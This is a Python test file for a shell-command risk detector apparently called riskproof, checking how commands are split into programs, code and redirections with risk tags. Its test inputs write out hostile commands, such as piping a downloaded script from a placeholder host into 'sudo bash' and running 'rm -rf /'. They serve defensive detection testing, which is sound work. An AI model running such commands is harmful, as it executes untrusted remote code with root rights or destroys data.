"""The parts of a command."""

from __future__ import annotations

import pytest

from riskproof.detect.shell import analyse
from riskproof.detect.shell_model import DOWNLOAD_RUN, NETWORK, PRIVILEGE
from riskproof.detect.shell_trace import Part, traced


def test_programs_come_in_the_order_and_at_the_depth_at_which_they_start() -> None:
    assert traced("curl -s https://x.test/i | sudo bash -s").parts == (
        Part("program", 0, "curl -s https://x.test/i", risks=(NETWORK,), hosts=("https://x.test/i",)),
        Part("program", 0, "sudo bash -s", risks=(PRIVILEGE,), fed="downloaded"),
        Part("program", 1, "bash -s", risks=(DOWNLOAD_RUN,), fed="downloaded"),
    )


def test_texts_that_run_as_code_and_redirections_are_parts() -> None:
    assert traced("A=' b'; sh -c 'echo \"$A\" > out'").parts == (
        Part("program", 0, "sh -c 'echo \"$A\" > out'"),
        Part("code", 1, 'echo "$A" > out', "bash"),
        Part("redirection", 2, "> out", paths=(("out", True),)),
        Part("program", 2, "echo ' b'"),
    )


def test_data_is_no_part() -> None:
    assert [part.text for part in traced("git commit -m 'sh -c \"rm -rf /\"'").parts] == ["git commit -m 'sh -c \"rm -rf /\"'"]


@pytest.mark.parametrize(
    "text", ["rm -rf /; ls", "echo $(curl a.test) | sh", "sudo env A=1 sh -c 'x > y'", "python3 -c 'import os; os.system(\"id\")'"]
)
def test_the_view_is_the_one_that_decisions_are_taken_on(text: str) -> None:
    assert traced(text).view == analyse(text)
